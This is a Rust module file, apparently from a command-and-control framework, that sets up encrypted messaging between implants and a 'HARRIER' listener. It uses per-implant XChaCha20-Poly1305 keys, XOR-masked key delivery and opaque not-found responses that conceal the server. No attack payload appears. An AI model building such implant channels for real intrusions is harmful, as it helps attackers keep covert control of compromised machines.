//! Symmetric envelope primitives for the HARRIER listener.
//!
//! Every implant owns a 256-bit key generated server-side at registration.
//! Payloads travel as `base64(nonce || ciphertext+tag)` under
//! XChaCha20-Poly1305; the key itself is only ever delivered masked with the
//! listener's process-startup XOR secret.

mod envelope;
mod keys;

pub use envelope::{decrypt, decrypt_to_bytes, encrypt, NONCE_SIZE, TAG_SIZE};
pub use keys::{mask_key, unmask_key, xor_mask, ImplantKey, XorKey, KEY_SIZE};

/// Errors surfaced by envelope and key operations.
///
/// Callers in the listener treat every variant the same way: log a bad-key
/// diagnostic and fall into the opaque not-found response.
#[derive(Debug, thiserror::Error)]
pub enum CryptoError {
    #[error("encryption failed")]
    EncryptionFailed,

    #[error("decryption failed")]
    DecryptionFailed,

    #[error("envelope is not valid base64")]
    MalformedEnvelope,

    #[error("envelope too short: {actual} bytes")]
    TruncatedEnvelope { actual: usize },

    #[error("decrypted payload is not valid UTF-8")]
    NotUtf8,

    #[error("invalid key length: expected {expected}, got {actual}")]
    InvalidKeyLength { expected: usize, actual: usize },

    #[error("mask length {mask} does not match key length {key}")]
    MaskLengthMismatch { key: usize, mask: usize },
}
